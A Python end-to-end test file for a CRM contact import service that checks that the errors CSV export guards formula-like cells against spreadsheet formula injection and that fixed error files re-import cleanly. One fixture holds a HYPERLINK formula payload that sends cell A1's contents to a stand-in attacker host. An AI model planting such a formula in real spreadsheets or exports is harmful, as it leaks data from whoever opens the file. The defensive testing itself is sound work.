"""The errors CSV (GET /jobs/<id>/errors): `row`, the original columns, `problem` (`failed`/`warning`), `error`;
formula-safe, headers too; fixed and imported again, it imports cleanly (the guard is stripped) and what still
fails comes back guarded once. A bad key fails its row; any other bad value is left out with a warning."""

from __future__ import annotations

import csv
import io

from crm_workers.domain.cells import FORMULA_STARTS
from tests.e2e.imports.helpers import contacts, run_import

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
FILE = (
    "Email,First Name,=Danger,Phone\n"
    "ok@example.com,Ok,,\n"
    f'not-an-email,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",,+1 415 555 0101\n'
    "sum@example.com,@SUM(1+1),-12.5,12\n"
).encode()


def errors_csv(client, tenant, job) -> list[list[str]]:
    response = client.get(f"/v1/crm/jobs/{job['_id']}/errors", headers=tenant.headers())
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def as_file(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode()


def test_failed_rows_come_back_with_their_row_number_and_every_cell_and_header_formula_safe(client, db, worker, tenant):
    job = run_import(client, db, tenant, FILE, options={"country": "US"})

    table = errors_csv(client, tenant, job)
    assert table[0] == ["row", "Email", "First Name", "'=Danger", "Phone", "problem", "error"]
    assert table[1][:6] == ["3", "not-an-email", "'" + HYPERLINK, "", "'+1 415 555 0101", "failed"]
    assert table[2][:6] == ["4", "sum@example.com", "'@SUM(1+1)", "-12.5", "12", "warning"]
    assert table[1][6].startswith("row 3, column 'Email', value 'not-an-email'")
    assert table[2][6].startswith("row 4, column 'Phone', value '12'")
    assert all(not cell.startswith(FORMULA_STARTS) or cell == "-12.5" for line in table for cell in line)
    assert len(table) == 3
    assert job["result"]["counts"]["failed"] == 1 and job["result"]["rows_with_warnings"] == 1


def test_a_bad_value_that_is_not_the_key_is_left_out_and_the_row_imported_with_a_warning(client, db, worker, tenant):
    job = run_import(client, db, tenant, FILE, options={"country": "US"})

    person = contacts(db, tenant.account_id, email="sum@example.com")[0]
    assert person["first_name"] == "@SUM(1+1)" and "phone" not in person
    assert job["result"]["counts"] == {"created": 2, "updated": 0, "skipped": 0, "failed": 1}
    assert job["progress"]["succeeded"] == 2 and job["progress"]["failed"] == 1
    kinds = {e["row"]: e["kind"] for e in db["crm.import.errors"].find({"job_id": job["_id"]})}
    assert kinds == {3: "failed", 4: "warning"}


def test_strict_mode_fails_the_rows_that_would_have_a_warning(client, db, worker, tenant):
    job = run_import(client, db, tenant, FILE, options={"country": "US", "strict": True})

    assert job["result"]["counts"] == {"created": 1, "updated": 0, "skipped": 0, "failed": 2}
    assert job["result"]["rows_with_warnings"] == 0
    assert [c["email"] for c in contacts(db, tenant.account_id)] == ["ok@example.com"]
    assert [r[5] for r in errors_csv(client, tenant, job)[1:]] == ["failed", "failed"]


def test_an_errors_csv_fixed_and_imported_again_imports_cleanly_and_what_still_fails_comes_back_guarded_once(
    client, db, worker, tenant
):
    job = run_import(client, db, tenant, FILE, options={"country": "US"})
    table = errors_csv(client, tenant, job)
    table[1][1] = "fixed@example.com"  # row 3's email fixed; row 4's phone left as it was

    again = run_import(client, db, tenant, as_file(table), "errors.csv", {"country": "US"})

    assert again["result"]["counts"] == {"created": 1, "updated": 1, "skipped": 0, "failed": 0}
    assert again["result"]["rows_with_warnings"] == 1
    assert {"row", "problem", "error"} <= set(again["result"]["ignored_columns"])
    fixed = contacts(db, tenant.account_id, email="fixed@example.com")[0]
    assert fixed["first_name"] == HYPERLINK and fixed["phone"] == "+14155550101"
    still = errors_csv(client, tenant, again)  # numbered as the errors file, no second `row`, `problem`, `error`
    assert still[0] == table[0]
    assert still[1][:6] == ["3", "sum@example.com", "'@SUM(1+1)", "-12.5", "12", "warning"]
    assert "column 'Phone', value '12'" in still[1][-1]

    still[1][4] = "+1 415 555 0102"
    last = run_import(client, db, tenant, as_file(still), "errors-2.csv", {"country": "US"})

    assert last["result"]["counts"] == {"created": 0, "updated": 1, "skipped": 0, "failed": 0}
    assert last["result"]["rows_with_warnings"] == 0 and len(errors_csv(client, tenant, last)) == 1
    assert contacts(db, tenant.account_id, email="sum@example.com")[0]["phone"] == "+14155550102"
    assert len(contacts(db, tenant.account_id)) == 3
